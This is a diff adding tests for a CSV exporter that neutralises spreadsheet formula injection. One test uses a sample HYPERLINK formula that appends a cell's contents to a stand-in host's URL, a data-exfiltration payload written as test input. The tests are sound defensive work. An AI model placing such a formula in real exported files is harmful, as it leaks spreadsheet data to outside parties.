@@ -88,12 +88,32 @@ describe("corrections", () => {
 
   it("are written so that no spreadsheet runs them, and read again as they were", () => {
     const sheet = sheetOf({ name: "+44 Club", note: "- a dash", latitude: "52.001", longitude: "-1.001" });
-    const rows = guardedRows(organisations, sheet);
+    const rows = guardedRows(sheet);
     const row = Object.fromEntries(rows[0]?.map((name, at) => [name, rows[1]?.[at]]) ?? []);
     expect([row["name"], row["note"], row["longitude"]]).toEqual(["'+44 Club", "'- a dash", "-1.001"]);
     const again = checkTable(organisations, parseSheet("organisations.csv", writeCsv(rows)), context);
     expect(again.issues).toEqual([]);
     expect(again.rows[0]?.record["name"]).toBe("+44 Club");
+  });
+
+  it("guard what a number's column holds and is no number", () => {
+    const sheet = sheetOf({ income_gbp: '=HYPERLINK("http://example.org/?"&A1,"go")', longitude: "-1+1" });
+    const rows = guardedRows(sheet);
+    const row = Object.fromEntries(rows[0]?.map((name, at) => [name, rows[1]?.[at]]) ?? []);
+    expect(row["income_gbp"]).toBe('\'=HYPERLINK("http://example.org/?"&A1,"go")');
+    expect(row["longitude"]).toBe("'-1+1");
+    expect(row["latitude"]).toBe("52.00100");
+  });
+
+  it("leave no cell that a spreadsheet would run, whatever its column", () => {
+    const risky = fc.stringMatching(/^[=+@\t\r-]?[-+=0-9.a-z()]{0,6}$/);
+    fc.assert(
+      fc.property(fc.array(risky, { minLength: 1, maxLength: 8 }), (cells) => {
+        const sheet = { ...sheetOf({}), header: cells.map((_, at) => `c${at}`), rows: [{ line: 2, cells }] };
+        for (const cell of guardedRows(sheet)[1] ?? [])
+          expect(cell).not.toMatch(/^(?!-\d+(?:\.\d+)?$)[=+\-@\t\r]/);
+      }),
+    );
   });
 });
 
